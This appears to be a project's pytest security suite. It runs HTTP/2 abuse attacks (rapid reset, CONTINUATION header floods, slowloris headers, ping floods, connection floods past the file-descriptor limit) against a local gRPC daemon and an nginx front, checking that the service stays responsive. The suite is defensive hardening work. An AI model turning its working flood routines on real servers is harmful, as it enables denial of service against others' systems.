"""HTTP/2 and connection abuse against a TLS listener on the loopback (issue 36;
docs/security.md "HTTP/2 and connection abuse"). The daemon is built on
Debian 12's gRPC 1.51, older than upstream's fixes for rapid reset
(CVE-2023-44487), connection floods (CVE-2023-4785) and HPACK parsing
(CVE-2023-33953). An attacker written with the `h2` package (from 127.0.0.2,
so that a per-address limit can tell it from the good client) opens and resets
streams as fast as Python can, holds thousands of idle connections, sends
oversized headers and sends headers slowly, against the daemon directly and
through the deployment docs/security.md prescribes (nginx terminating TLS in
front). Each attack passes when the daemon stays up, its RSS and threads stay
bounded, and a well-behaved client (grpc_probe.py, another process) gets every
GetJob answered, p99 within 100 ms, during it, and a new connection afterwards.

The daemon starts with an open-file limit of 1,024 (soft) / 4,096 (hard): a
flood of 2,000 connections needs the daemon's raise to the hard limit, and one
past 4,096 reaches what 1.51 cannot survive (its listener stops for good)."""
import getpass
import json
import os
import resource
import select
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time

import grpc
import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack
import pytest

from benchd_harness import stub_dir
from conftest import Daemon, bench_pb2, bench_pb2_grpc, free_port, remove_data_dir
from tls_certs import make_certs

HERE = os.path.dirname(os.path.abspath(__file__))
ATTACKER = "127.0.0.2"       # the attacker's source address (any 127/8 is local)
P99_MS = 100                 # the good client's bound during every attack
ATTACK_S = 2.5               # each attack's length (the file stays under a minute)
NOFILE = (1024, 4096)        # the daemon's open-file limit as it starts (soft, hard)
IDLE_FLOOD = 2000            # connections held open: over the soft limit, under the hard
SMALL_NOFILE = (256, 256)    # the flood test's own daemon: a limit the flood passes at once
PAST_HARD = 600              # connections: past SMALL_NOFILE and the daemon's few files
RSS_GROWTH_MIB = 256         # what an attack may add to the daemon's RSS (gRPC's quota)
THREAD_GROWTH = 16           # and to its threads
HANDSHAKE_TIMEOUT_S = 10     # kHandshakeTimeoutMs (server/daemon/daemon.cc)
GOAWAY_ENHANCE_YOUR_CALM = 0xB

REQUEST_HEADERS = [(":method", "POST"), (":scheme", "https"), (":path", "/benchd.v1.Bench/GetJob"),
                   (":authority", "localhost"), ("content-type", "application/grpc"),
                   ("te", "trailers")]


def grpc_message(msg):
    body = msg.SerializeToString()
    return b"\x00" + len(body).to_bytes(4, "big") + body


def frame(kind, flags, stream, payload):
    """One raw HTTP/2 frame (RFC 9113 4.1): for what h2 would refuse to send."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


HEADERS, CONTINUATION = 0x1, 0x9
END_HEADERS = 0x4


# ---------------------------------------------------------------- the attacker

def attacker_socket(port, timeout=5.0):
    s = socket.socket()
    s.settimeout(timeout)
    s.bind((ATTACKER, 0))
    s.connect(("127.0.0.1", port))
    return s


class H2Conn:
    """A TLS connection speaking HTTP/2 through h2, from ATTACKER."""

    def __init__(self, port, ctx):
        self.sock = ctx.wrap_socket(attacker_socket(port), server_hostname="localhost")
        assert self.sock.selected_alpn_protocol() == "h2"
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.h2.initiate_connection()
        self.closed = False
        self.goaway = None  # the ConnectionTerminated event, once one came
        self.flush()

    def flush(self):
        data = self.h2.data_to_send()
        if data:
            self.sock.sendall(data)

    def pump(self, timeout=0.0):
        """What the server sent, waiting up to timeout for the first bytes."""
        events = []
        ready = self.sock.pending() or select.select([self.sock], [], [], timeout)[0]
        while ready and not self.closed:
            try:
                data = self.sock.recv(65536)
            except (OSError, ssl.SSLError):
                data = b""
            if not data:
                self.closed = True
                break
            try:
                events += self.h2.receive_data(data)
            except h2.exceptions.ProtocolError:
                self.closed = True
                break
            ready = self.sock.pending() or select.select([self.sock], [], [], 0)[0]
        for e in events:
            if isinstance(e, h2.events.ConnectionTerminated):
                self.goaway = e
        if not self.closed:
            try:
                self.flush()  # SETTINGS and PING acks
            except OSError:
                self.closed = True
        return events

    def send_raw(self, data):
        self.sock.sendall(data)

    def close(self):
        self.sock.close()


def rapid_reset(port, ctx, seconds, body, connections=2):
    """CVE-2023-44487: HEADERS and the request, then RST_STREAM at once, as
    fast as Python can; a connection the server ends is opened again. Returns
    (streams, connections the server ended)."""
    conns = [H2Conn(port, ctx) for _ in range(connections)]
    streams = ended = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for i, c in enumerate(conns):
            try:
                for _ in range(64):
                    sid = c.h2.get_next_available_stream_id()
                    c.h2.send_headers(sid, REQUEST_HEADERS)
                    if c.h2.outbound_flow_control_window >= len(body):
                        c.h2.send_data(sid, body, end_stream=True)
                    c.h2.reset_stream(sid, error_code=8)  # CANCEL
                    streams += 1
                c.flush()
                c.pump()
            except (OSError, h2.exceptions.ProtocolError):
                c.closed = True
            if c.closed or c.goaway:
                ended += 1
                c.close()
                conns[i] = H2Conn(port, ctx)
    for c in conns:
        c.close()
    return streams, ended


def idle_flood(port, ctx, total, tls):
    """Connections opened and left: the first `tls` finish TLS and send
    HTTP/2's preface, the rest stay bare TCP. Returns the open sockets, and
    how many the server refused or did not accept in time."""
    held, failed = [], 0
    for i in range(total):
        try:
            if i < tls:
                held.append(H2Conn(port, ctx))
            else:
                held.append(attacker_socket(port, timeout=0.5))
        except (OSError, ssl.SSLError, AssertionError):
            failed += 1
            if failed > 50:  # the listener no longer answers: the rest would only wait
                break
    return held, failed


def close_all(held):
    for h in held:
        h.close()


def header_block(headers):
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers])


def continuation_flood(port, ctx, seconds, per_conn_bytes=64 << 20, connections=4):
    """CVE-2023-33953: a HEADERS frame without END_HEADERS, then CONTINUATION
    frames of 8 KiB headers each (under any one frame's limit, over the
    call's), never ending the block. Returns the header bytes the server took
    in before it ended each connection."""
    value = "v" * 8000
    conns = [H2Conn(port, ctx) for _ in range(connections)]
    for c in conns:
        c.pump(0.5)
        c.send_raw(frame(HEADERS, 0, 1, header_block(REQUEST_HEADERS)))
    sent = [0] * connections
    n = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end and any(not c.closed for c in conns):
        for i, c in enumerate(conns):
            if c.closed or sent[i] >= per_conn_bytes:
                continue
            chunk = b"".join(frame(CONTINUATION, 0, 1, header_block([(f"x-pad-{n + k}", value)]))
                             for k in range(16))
            n += 16
            try:
                c.send_raw(chunk)
                sent[i] += len(chunk)
            except OSError:
                c.closed = True
            c.pump()
    for c in conns:
        c.close()
    return sent


def slow_headers(port, ctx, seconds, connections=200, every=0.5):
    """Slowloris: each connection starts a HEADERS block and adds one small
    header every `every` seconds, never ending it."""
    conns = []
    for _ in range(connections):
        c = H2Conn(port, ctx)
        c.send_raw(frame(HEADERS, 0, 1, header_block(REQUEST_HEADERS)))
        conns.append(c)
    end, n = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        for c in conns:
            if not c.closed:
                try:
                    c.send_raw(frame(CONTINUATION, 0, 1, header_block([(f"x-slow-{n}", "1")])))
                except OSError:
                    c.closed = True
        n += 1
        time.sleep(every)
    closed = sum(c.closed for c in conns)
    close_all(conns)
    return f"{connections} connections, {closed} closed by the server"


# ------------------------------------------------------ watching the daemon

class Watch:
    """RSS and threads of a process from /proc, sampled every 20 ms."""

    def __init__(self, pid):
        self.pid, self.max_rss_kib, self.max_threads = pid, 0, 0
        self.base_rss_kib, self.base_threads = self.sample()
        self.cpu_s = -self.cpu()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def sample(self):
        rss = threads = 0
        with open(f"/proc/{self.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    rss = int(line.split()[1])
                elif line.startswith("Threads:"):
                    threads = int(line.split()[1])
        return rss, threads

    def cpu(self):
        """CPU seconds the process has used (user + system)."""
        with open(f"/proc/{self.pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def _run(self):
        while not self._stop.wait(0.02):
            try:
                rss, threads = self.sample()
            except OSError:
                return
            self.max_rss_kib, self.max_threads = max(self.max_rss_kib, rss), max(self.max_threads,
                                                                                  threads)

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *exc):
        self._stop.set()
        self._thread.join()
        self.cpu_s += self.cpu()

    def describe(self):
        return (f"RSS {self.base_rss_kib // 1024} -> max {self.max_rss_kib // 1024} MiB, "
                f"threads {self.base_threads} -> max {self.max_threads}, CPU {self.cpu_s:.1f} s")


class Probe:
    """grpc_probe.py against `address`: started, then stopped with its figures."""

    def __init__(self, address, ca, job_id):
        self.proc = subprocess.Popen([sys.executable, os.path.join(HERE, "grpc_probe.py"), address,
                                      ca, job_id, stub_dir()], stdin=subprocess.PIPE,
                                     stdout=subprocess.PIPE, text=True)
        line = self.proc.stdout.readline()
        assert line.strip() == "ready", f"probe did not start: {line!r}"

    def stop(self):
        out, _ = self.proc.communicate("stop\n", timeout=30)
        r = json.loads(out)
        lat = sorted(r["latencies_ms"])
        r["p99_ms"] = lat[min(len(lat) - 1, int(len(lat) * 0.99))] if lat else float("inf")
        r["p50_ms"] = lat[len(lat) // 2] if lat else float("inf")
        return r


def get_job(address, ca, job_id, timeout=5):
    """One GetJob on a new connection (a new client arriving)."""
    with open(ca, "rb") as f:
        creds = grpc.ssl_channel_credentials(root_certificates=f.read())
    with grpc.secure_channel(address, creds) as ch:
        return bench_pb2_grpc.BenchStub(ch).GetJob(bench_pb2.GetJobRequest(job_id=job_id),
                                                   timeout=timeout)


# ----------------------------------------------------------- the two fronts

def raise_own_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    need = IDLE_FLOOD + 500
    assert hard >= need, f"this test opens {need} sockets; the hard open-file limit is {hard}"
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def start_daemon(certs, data, nofile=NOFILE):
    d = Daemon(data, ["--tls-cert", certs.server_cert, "--tls-key", certs.server_key],
               preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, nofile),
               env=dict(os.environ, BENCHD_WORKER_THREADS="1"))
    d.start()
    return d


def tls_stub(address, ca):
    with open(ca, "rb") as f:
        creds = grpc.ssl_channel_credentials(root_certificates=f.read())
    ch = grpc.secure_channel(address, creds)
    return ch, bench_pb2_grpc.BenchStub(ch)


def a_job(address, ca):
    """A job to GetJob: a tiny benchmark, cancelled (the worker stays idle)."""
    ch, stub = tls_stub(address, ca)
    spec = bench_pb2.JobSpec(benchmark=bench_pb2.BenchmarkSpec(
        model=bench_pb2.ModelConfig(preset="tiny"), measure_steps=2, warmup_steps=0))
    job = stub.Submit(bench_pb2.SubmitRequest(spec=spec), timeout=30)
    stub.CancelJob(bench_pb2.CancelJobRequest(job_id=job.id), timeout=30)
    ch.close()
    return job.id


NGINX_CONF = """
{user}
worker_processes auto;
worker_rlimit_nofile {nofile};
pid {dir}/nginx.pid;
error_log {dir}/error.log warn;
events {{ worker_connections {connections}; }}
http {{
  access_log off;
  client_body_temp_path {dir}/body;
  proxy_temp_path {dir}/proxy;
  fastcgi_temp_path {dir}/fastcgi;
  uwsgi_temp_path {dir}/uwsgi;
  scgi_temp_path {dir}/scgi;
{zones}
  upstream benchd {{
    server {upstream};
    keepalive 16;
  }}
  server {{
    listen 127.0.0.1:{port} ssl http2;
    ssl_certificate {cert};
    ssl_certificate_key {key};
{limits}
    location / {{
      grpc_pass grpcs://benchd;
      grpc_ssl_trusted_certificate {ca};
      grpc_ssl_verify on;
      grpc_ssl_name localhost;
      grpc_ssl_session_reuse on;
{stream_timeouts}
    }}
  }}
}}
"""


def deploy_conf(name):
    """A block of deploy/nginx/benchd.conf (the file docs/security.md shows),
    between '# <name>' and '# end <name>', so the test runs what is documented."""
    with open(os.path.join(HERE, "../../deploy/nginx/benchd.conf")) as f:
        text = f.read()
    start = text.index(f"# {name}\n")
    return text[start:text.index(f"# end {name}\n", start)]


class Nginx:
    def __init__(self, directory, certs, upstream):
        self.dir, self.port = directory, free_port()
        os.makedirs(directory, exist_ok=True)
        conf = os.path.join(directory, "nginx.conf")
        user = getpass.getuser()
        with open(conf, "w") as f:
            f.write(NGINX_CONF.format(
                user=f"user {user};" if os.geteuid() == 0 else "", dir=directory,
                nofile=16384, connections=8192, upstream=upstream, port=self.port,
                cert=certs.server_cert, key=certs.server_key, ca=certs.ca_cert,
                limits=deploy_conf("limits"), zones=deploy_conf("zones"), stream_timeouts=deploy_conf("stream timeouts")))
        nginx = shutil.which("nginx") or "/usr/sbin/nginx"
        assert os.path.exists(nginx), "nginx is not installed: scripts/setup.sh --test installs it"
        self.proc = subprocess.Popen([nginx, "-p", directory, "-e", f"{directory}/error.log",
                                      "-c", conf, "-g", "daemon off;"])
        deadline = time.time() + 10
        while time.time() < deadline:
            assert self.proc.poll() is None, f"nginx exited: {self.log()}"
            with socket.socket() as s:
                if s.connect_ex(("127.0.0.1", self.port)) == 0:
                    return
            time.sleep(0.05)
        raise RuntimeError(f"nginx did not listen: {self.log()}")

    @property
    def address(self):
        return f"127.0.0.1:{self.port}"

    def log(self):
        try:
            with open(os.path.join(self.dir, "error.log")) as f:
                return f.read()[-3000:]
        except OSError:
            return ""

    def stop(self):
        self.proc.send_signal(signal.SIGQUIT)
        try:
            self.proc.wait(10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    raise_own_nofile()
    base = tmp_path_factory.mktemp("h2abuse")
    certs = make_certs(str(base / "certs"))
    d = start_daemon(certs, str(base / "data"))
    proxy = None
    try:
        job_id = a_job(d.address, certs.ca_cert)
        proxy = Nginx(str(base / "nginx"), certs, d.address)
        ctx = ssl.create_default_context(cafile=certs.ca_cert)
        ctx.set_alpn_protocols(["h2"])
        yield {"daemon": d, "certs": certs, "job": job_id, "ctx": ctx, "nginx": proxy,
               "base": base}
    finally:
        if proxy:
            proxy.stop()
        d.stop()
        remove_data_dir(str(base / "data"))


FRONTS = ["direct", "nginx"]


def front(setup, name):
    d = setup["daemon"]
    if name == "direct":
        return d.address, int(d.address.rsplit(":", 1)[1])
    return setup["nginx"].address, setup["nginx"].port


def under_attack(setup, name, attack):
    """Runs attack(port) while the probe calls GetJob through `name`; checks
    the pass conditions and returns what the attack returned."""
    d, ca, job = setup["daemon"], setup["certs"].ca_cert, setup["job"]
    address, port = front(setup, name)
    probe = Probe(address, ca, job)
    with Watch(d.pid) as w:
        try:
            result = attack(port)
        finally:
            r = probe.stop()
    assert d.proc.poll() is None, f"benchd exited during the attack: {d.log()}"
    say = (f"{name}: {result}; good client {len(r['latencies_ms'])} calls, "
           f"p50 {r['p50_ms']:.1f} ms, p99 {r['p99_ms']:.1f} ms, errors {r['errors'][:3]}; "
           f"{w.describe()}")
    print(say)
    assert not r["errors"], say
    assert len(r["latencies_ms"]) >= 20, say
    assert r["p99_ms"] <= P99_MS, say
    assert w.max_rss_kib - w.base_rss_kib <= RSS_GROWTH_MIB * 1024, say
    assert w.max_threads - w.base_threads <= THREAD_GROWTH, say
    assert get_job(address, ca, job).id == job, say  # a new client is served
    return result


# ------------------------------------------------------------------ the tests

@pytest.fixture(scope="module", autouse=True)
def bare_connections(setup):
    """TCP connections that never start TLS, and TLS ones that never send
    HTTP/2's preface, opened before the first test (autouse); the last test
    checks they were closed, while the attacks between took the time."""
    port = front(setup, "direct")[1]
    tcp = [attacker_socket(port) for _ in range(50)]
    tls = [setup["ctx"].wrap_socket(attacker_socket(port), server_hostname="localhost")
           for _ in range(50)]
    yield time.monotonic(), tcp + tls
    close_all(tcp + tls)


@pytest.mark.parametrize("name", FRONTS)
def test_rapid_reset(setup, name):
    body = grpc_message(bench_pb2.GetJobRequest(job_id=setup["job"]))
    streams, ended = under_attack(setup, name,
                                  lambda port: rapid_reset(port, setup["ctx"], ATTACK_S, body))
    assert streams > 5000, f"the attacker opened only {streams} streams"


@pytest.mark.parametrize("name", FRONTS)
def test_idle_connections(setup, name):
    held = []

    def attack(port):
        nonlocal held
        held, failed = idle_flood(port, setup["ctx"], IDLE_FLOOD, tls=300)
        time.sleep(ATTACK_S / 2)  # held while the good client calls
        return f"{len(held)} held, {failed} not accepted"

    try:
        under_attack(setup, name, attack)
    finally:
        close_all(held)
    assert len(held) >= IDLE_FLOOD - 10


@pytest.mark.parametrize("name", [
    pytest.param("direct", marks=pytest.mark.xfail(
        strict=True, reason="gRPC 1.51 reads a header whole before it checks the size, then "
        "drops it and serves the call (CVE-2023-33953): docs/security.md puts nginx in front")),
    "nginx"])
def test_a_call_with_oversized_headers_is_refused(setup, name):
    c = H2Conn(front(setup, name)[1], setup["ctx"])
    c.h2.send_headers(1, REQUEST_HEADERS + [("x-big", "b" * 65536)], end_stream=False)
    c.h2.send_data(1, grpc_message(bench_pb2.GetJobRequest(job_id=setup["job"])), end_stream=True)
    c.flush()
    answer, deadline = [], time.monotonic() + 5
    while time.monotonic() < deadline and not c.closed and not c.goaway:
        answer += c.pump(0.2)
        if any(isinstance(e, (h2.events.StreamReset, h2.events.StreamEnded)) for e in answer):
            break
    c.close()
    statuses = [dict(e.headers).get(b"grpc-status") for e in answer
                if isinstance(e, (h2.events.ResponseReceived, h2.events.TrailersReceived))]
    assert b"0" not in statuses, f"{name}: a call with 64 KiB of headers was served: {answer}"
    assert c.closed or c.goaway or any(
        isinstance(e, (h2.events.StreamReset, h2.events.StreamEnded)) for e in answer), answer


@pytest.mark.parametrize("name", FRONTS)
def test_headers_that_never_end(setup, name):
    """CONTINUATION frames of 8 KiB headers each, under any one frame's limit."""
    sent = under_attack(setup, name, lambda port: continuation_flood(port, setup["ctx"], ATTACK_S))
    print(f"{name}: continuation flood: KiB taken per connection {[s >> 10 for s in sent]}")


@pytest.mark.parametrize("name", FRONTS)
def test_slow_headers(setup, name):
    under_attack(setup, name, lambda port: slow_headers(port, setup["ctx"], ATTACK_S))


@pytest.mark.parametrize("name", FRONTS)
def test_ping_flood_ends_the_connection(setup, name):
    c = H2Conn(front(setup, name)[1], setup["ctx"])
    c.pump(0.5)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and not c.closed and not c.goaway:
        for _ in range(20):
            c.h2.ping(os.urandom(8))
        try:
            c.flush()
        except OSError:
            break
        c.pump(0.05)
    c.close()
    assert c.goaway and c.goaway.error_code == GOAWAY_ENHANCE_YOUR_CALM or c.closed, (
        f"{name}: 5 s of pings without data did not end the connection")


def test_bare_connections_are_closed(setup, bare_connections):
    opened, socks = bare_connections
    time.sleep(max(0.0, opened + HANDSHAKE_TIMEOUT_S + 2 - time.monotonic()))
    still_open = 0
    for s in socks:
        s.settimeout(0.05)
        try:
            while s.recv(65536):  # the server's SETTINGS, if TLS got that far
                pass
        except (socket.timeout, ssl.SSLWantReadError):
            still_open += 1  # nothing more, and no end: open
        except (OSError, ssl.SSLError):
            pass  # reset or a TLS alert: closed
    assert still_open == 0, (f"{still_open} of {len(socks)} connections without a handshake "
                             f"are still open after {HANDSHAKE_TIMEOUT_S + 2} s")


@pytest.mark.parametrize("name", [
    pytest.param("direct", marks=pytest.mark.xfail(
        strict=True, reason="gRPC 1.51 stops accepting for good once accept() fails with "
        "EMFILE (CVE-2023-4785, fixed in 1.57.1): docs/security.md says to put nginx in front")),
    "nginx"])
def test_a_flood_past_the_file_limit_is_survived(setup, name, tmp_path):
    """Connections past the daemon's hard open-file limit, then let go: new
    clients must be served again. Directly, 1.51's listener is dead after it;
    the daemon here is a fresh one with a hard limit of 256 (what a flood of
    any size does to any limit, at a size the test can afford), so that the
    other tests keep theirs."""
    certs = setup["certs"]
    d = (start_daemon(certs, str(tmp_path / "data"), SMALL_NOFILE) if name == "direct"
         else setup["daemon"])
    try:
        job = a_job(d.address, certs.ca_cert) if name == "direct" else setup["job"]
        if name == "direct":
            address = d.address
        else:
            address = setup["nginx"].address
        port = int(address.rsplit(":", 1)[1])
        held, failed = idle_flood(port, setup["ctx"], PAST_HARD, tls=0)
        # Held until the daemon has taken all it can (its descriptors stop
        # growing), so that its accept() meets the limit before they go.
        fds, deadline = -1, time.monotonic() + 10
        while time.monotonic() < deadline:
            now = len(os.listdir(f"/proc/{d.pid}/fd"))
            if now == fds or now >= SMALL_NOFILE[1] - 1:
                fds = now
                break
            fds = now
            time.sleep(0.5)
        close_all(held)
        print(f"{name}: {len(held)} connections held, {failed} not made; the daemon had "
              f"{fds} descriptors open")
        time.sleep(1)
        assert d.proc.poll() is None, d.log()
        assert get_job(address, certs.ca_cert, job, timeout=3).id == job
    finally:
        if name == "direct":
            d.stop()
            remove_data_dir(str(tmp_path / "data"))
